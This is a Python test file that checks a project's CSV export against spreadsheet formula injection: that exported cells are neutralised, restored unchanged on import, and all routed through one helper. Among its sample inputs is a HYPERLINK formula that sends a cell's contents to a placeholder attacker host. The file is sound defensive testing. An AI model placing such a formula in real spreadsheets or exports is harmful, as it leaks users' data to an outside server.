"""V3, C2: no CSV the store writes can run as a formula in a spreadsheet
(OWASP's CSV injection rule), and what the catalogue exports it imports
back unchanged."""

import csv
import io

import pytest

from camshaft.core.spreadsheet import SafeDictWriter, SafeWriter, neutralise, restore

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-10% kit", "@SUM(A1)"]


@pytest.mark.parametrize("value", [*DANGEROUS, "\tx", "\rx", "'=already quoted", "''@twice"])
def test_V3_export_neutralises_formulas_and_restore_gives_them_back(value):
    cell = neutralise(value)
    assert cell.startswith("'")
    assert restore(cell) == value


@pytest.mark.parametrize("value", ["Brake pads", "10% off", "it's fine", "'quoted prose", ""])
def test_V3_plain_text_is_written_as_it_is(value):
    assert neutralise(value) == value
    assert restore(value) == value


def test_V3_both_writers_neutralise_every_cell_header_included():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "ok"])
    writer = SafeDictWriter(out, fieldnames=["@name"])
    writer.writeheader()
    writer.writerow({"@name": "-2"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "ok"], ["'@name"], ["'-2"]]


def test_V3_no_csv_writer_bypasses_the_helper():
    """Every CSV camshaft writes goes through camshaft.core.spreadsheet."""
    from pathlib import Path

    import camshaft

    root = Path(camshaft.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheet.py"
        and ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
    ]
    assert offenders == []
